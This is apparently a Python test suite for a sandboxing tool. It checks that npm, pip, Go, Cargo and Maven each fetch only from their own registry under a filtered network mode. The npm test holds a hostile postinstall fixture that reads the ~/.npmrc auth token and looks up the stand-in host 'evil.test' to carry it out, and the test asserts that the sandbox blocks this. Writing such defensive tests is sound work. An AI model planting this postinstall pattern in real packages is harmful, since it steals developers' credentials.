"""The shipped profiles with --net filtered: each language's own tool fetches from its package server, by name, and from
nowhere else. The servers are files in a network namespace that plays the internet."""
import base64
import hashlib
import io
import json
import os
import sys
import tarfile
import zipfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "support"))
import networks

networks.enter()
import snugtest
from networks import WEB

net = None
REGISTRIES = ("registry.npmjs.org", "pypi.org", "files.pythonhosted.org", "proxy.golang.org", "index.crates.io", "static.crates.io",
              "repo1.maven.org")


def setUpModule():
    global net
    net = networks.set_up()
    net.say({**networks.NAMES, **{name: [WEB] for name in REGISTRIES}, "evil.test": [WEB]})


def packed(files):
    """A .tar.gz of texts."""
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w:gz") as archive:
        for name, text in files.items():
            entry = tarfile.TarInfo(name)
            entry.size, entry.mode = len(text), 0o755
            archive.addfile(entry, io.BytesIO(text.encode()))
    return data.getvalue()


def zipped(files):
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return data.getvalue()


class Registries(snugtest.Case):
    def serve(self, host, files):
        for path, content in files.items():
            self.write(os.path.join(net.folder, "sites", host, path), content)

    def fetch(self, profile, script, mode="filtered", **more):
        """Runs a script under a shipped profile; nothing is allowed but what that says."""
        return self.inside("sh", "-euc", script, options=("-p", profile, "--net", mode), timeout=300, **more)

    def fetched(self, profile, script, **more):
        result = self.fetch(profile, script, **more)
        self.assert_status(result, 0)
        return result.stdout.decode()

    def assert_only_filtered(self, profile, script, host, **more):
        """Without --net filtered the same profile reaches nothing, and snug names who was asked for."""
        result = self.fetch(profile, script, mode="none", **more)
        self.assertNotEqual(result.returncode, 0, self.story(result))
        self.assertIn(f"blocked {host}", result.stderr.decode())


class Npm(Registries):
    # What a hostile package tries when it is installed: to read a token, and to bring it away.
    STEALS = ("const dns = require('dns');\ntry { console.error('STOLEN', require('fs').readFileSync(process.env.HOME + '/.npmrc')); }"
              " catch (e) { require('fs').writeFileSync('tried', e.code); }\n"
              "dns.lookup('evil.test', (e) => require('fs').appendFileSync('tried', ' ' + e.code));\n")

    def setUp(self):
        super().setUp()
        snugtest.need_program("npm")
        package = {"name": "dep", "version": "1.2.3", "main": "i.js", "scripts": {"postinstall": "node steal.js"}}
        ball = packed({"package/package.json": json.dumps(package), "package/i.js": "module.exports = 42;\n", "package/steal.js": self.STEALS})
        where = {"tarball": "http://registry.npmjs.org/dep/-/dep-1.2.3.tgz",
                 "integrity": "sha512-" + base64.b64encode(hashlib.sha512(ball).digest()).decode()}
        self.serve("registry.npmjs.org", {
            "dep/index": json.dumps({"name": "dep", "dist-tags": {"latest": "1.2.3"}, "versions": {"1.2.3": {**package, "dist": where}}}),
            "dep/-/dep-1.2.3.tgz": ball})
        self.write("package.json", json.dumps({"name": "app", "version": "1.0.0"}))
        self.write(os.path.join(snugtest.HOME, ".npmrc"), "//registry.npmjs.org/:_authToken=secret\n")
        self.addCleanup(os.unlink, os.path.join(snugtest.HOME, ".npmrc"))

    INSTALL = "npm --registry=http://registry.npmjs.org/ --no-audit --silent --foreground-scripts --fetch-retries=0 install dep"

    def test_a_package_comes_from_the_registry_and_its_script_gets_nothing(self):
        result = self.fetch("node", self.INSTALL + "; node -p 'require(\"dep\")'; cat node_modules/dep/tried")
        self.assert_status(result, 0)
        # npm 9 tells the script it runs before.
        self.assertEqual(result.stdout.decode().split("\n")[-2:], ["42", "ENOENT ENOTFOUND"], self.story(result))
        self.assertIn("blocked evil.test", result.stderr.decode())
        self.assertNotIn("STOLEN", result.stderr.decode())
        self.assertNotIn("evil.test", net.questions())

    def test_without_a_network_it_says_what_is_missing(self):
        self.assert_only_filtered("node", self.INSTALL, "registry.npmjs.org")


class Pip(Registries):
    PIP = ".venv/bin/pip install -q --index-url http://pypi.org/simple --trusted-host pypi.org --trusted-host files.pythonhosted.org --retries 0 dep"

    def test_a_wheel_comes_from_the_index(self):
        info = "dep-1.0.dist-info"
        wheel = zipped({"dep.py": "answer = 42\n", f"{info}/METADATA": "Metadata-Version: 2.1\nName: dep\nVersion: 1.0\n", f"{info}/RECORD": "",
                        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"})
        name = "dep-1.0-py3-none-any.whl"
        self.serve("files.pythonhosted.org", {"packages/" + name: wheel})
        self.serve("pypi.org", {"simple/dep/index": f'<!DOCTYPE html><html><body><a href="http://files.pythonhosted.org/packages/{name}'
                                f'#sha256={hashlib.sha256(wheel).hexdigest()}">{name}</a></body></html>'})
        self.assert_only_filtered("python", f"/usr/bin/python3 -m venv .venv; {self.PIP}", "pypi.org")
        output = self.fetched("python", f"{self.PIP}; .venv/bin/python -c 'import dep; print(dep.answer)'")
        self.assertEqual(output, "42\n")


class Go(Registries):
    def test_a_module_comes_from_the_proxy(self):
        snugtest.need_program("go")
        module = {"go.mod": "module example.com/dep\n\ngo 1.19\n", "dep.go": "package dep\n\nfunc Answer() int { return 42 }\n"}
        self.serve("proxy.golang.org", {
            "example.com/dep/@v/list": "v1.0.0\n", "example.com/dep/@v/v1.0.0.info": '{"Version": "v1.0.0"}',
            "example.com/dep/@v/v1.0.0.mod": module["go.mod"],
            "example.com/dep/@v/v1.0.0.zip": zipped({f"example.com/dep@v1.0.0/{name}": text for name, text in module.items()})})
        self.write("go.mod", "module example.com/app\n\ngo 1.19\n\nrequire example.com/dep v1.0.0\n")
        self.write("main.go", 'package main\n\nimport "example.com/dep"\n\nfunc main() { println(dep.Answer()) }\n')
        settings = "export GOPROXY=http://proxy.golang.org GONOSUMDB='*' GOFLAGS=-mod=mod; "
        self.assert_only_filtered("go", settings + "go mod download", "proxy.golang.org")
        self.assertEqual(self.fetched("go", settings + "go run . 2>&1 | tail -n 1"), "42\n")


class Cargo(Registries):
    def test_a_crate_comes_from_the_index(self):
        snugtest.need_program("cargo")
        crate = packed({"dep-1.0.0/Cargo.toml": '[package]\nname = "dep"\nversion = "1.0.0"\n',
                        "dep-1.0.0/src/lib.rs": "pub fn answer() -> i32 { 42 }\n"})
        row = {"name": "dep", "vers": "1.0.0", "deps": [], "cksum": hashlib.sha256(crate).hexdigest(), "features": {}, "yanked": False}
        self.serve("index.crates.io", {"config.json": '{"dl": "http://static.crates.io/crates"}', "3/d/dep": json.dumps(row) + "\n"})
        self.serve("static.crates.io", {"crates/dep/1.0.0/download": crate})
        # The index over http: cargo 1.68 and later need no permission for it.
        self.write(".cargo/config.toml", '[unstable]\nsparse-registry = true\n[source.crates-io]\nreplace-with = "plain"\n'
                   '[source.plain]\nregistry = "sparse+http://index.crates.io/"\n')
        self.write("Cargo.toml", '[package]\nname = "app"\nversion = "0.1.0"\nedition = "2021"\n[dependencies]\ndep = "1"\n')
        self.write("src/main.rs", 'fn main() { println!("{}", dep::answer()); }\n')
        fetch = "export RUSTC_BOOTSTRAP=1 CARGO_NET_RETRY=0; cargo fetch -q"
        self.assert_only_filtered("rust", fetch, "index.crates.io")
        self.fetched("rust", fetch)
        self.assertEqual(self.fetched("rust", "export RUSTC_BOOTSTRAP=1; cargo run -q --offline", mode="none"), "42\n")


class Maven(Registries):
    POM = """<project xmlns="http://maven.apache.org/POM/4.0.0"><modelVersion>4.0.0</modelVersion>
<groupId>app</groupId><artifactId>app</artifactId><version>1</version>
<properties><maven.compiler.source>17</maven.compiler.source><maven.compiler.target>17</maven.compiler.target>
<project.build.sourceEncoding>UTF-8</project.build.sourceEncoding></properties></project>
"""
    # Maven refuses http but for a mirror that somebody has named.
    SETTINGS = """<settings><mirrors><mirror><id>central-here</id><mirrorOf>central</mirrorOf>
<url>http://repo1.maven.org/maven2</url></mirror></mirrors></settings>
"""

    def test_plugins_come_from_the_repository_and_later_builds_need_none(self):
        snugtest.need_program("mvn")
        repository = "/usr/share/maven-repo"
        snugtest.need(os.path.isdir(repository + "/org/apache/maven/plugins/maven-jar-plugin"), "Debian's Maven plugins")
        site = os.path.join(net.folder, "sites/repo1.maven.org")
        os.makedirs(site, exist_ok=True)
        os.symlink(repository, os.path.join(site, "maven2"))
        self.write("pom.xml", self.POM)
        self.write("settings.xml", self.SETTINGS)
        self.write("src/main/java/app/Main.java",
                   "package app;\npublic class Main { public static void main(String[] a) { System.out.println(40 + 2); } }\n")
        build = "mvn -q -B -s settings.xml package"
        self.assert_only_filtered("java", build, "repo1.maven.org")
        self.fetched("java", build)
        output = self.fetched("java", "rm -r target; mvn -q -B -o -s settings.xml package >/dev/null; java -cp target/app-1.jar app.Main", mode="none")
        self.assertEqual(output, "42\n")


if __name__ == "__main__":
    snugtest.main()
